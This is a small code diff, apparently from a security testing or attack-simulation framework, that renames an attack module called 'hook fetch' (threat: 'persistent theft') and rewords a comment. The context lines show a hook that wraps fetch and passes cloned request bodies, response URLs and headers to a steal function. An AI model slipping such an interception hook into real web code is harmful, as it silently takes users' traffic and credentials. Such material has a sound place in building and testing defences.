@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "hook fetch",
+  name: "hooks fetch",
   threat: "persistent theft",
   target: "any",
   hook(it) {
@@ -14,7 +14,7 @@ export default attack({
       const copy = request?.clone();
       const response = await fetch(input, init);
       const answer = response.clone();
-      // A stream that never ends is no reason to wait.
+      // Do not wait for a stream that never ends.
       void copy?.text().then((text) => it.steal(text));
       it.steal(response.url, [...response.headers]);
       if (!response.headers.get("content-type")?.startsWith("text/event-stream")) {
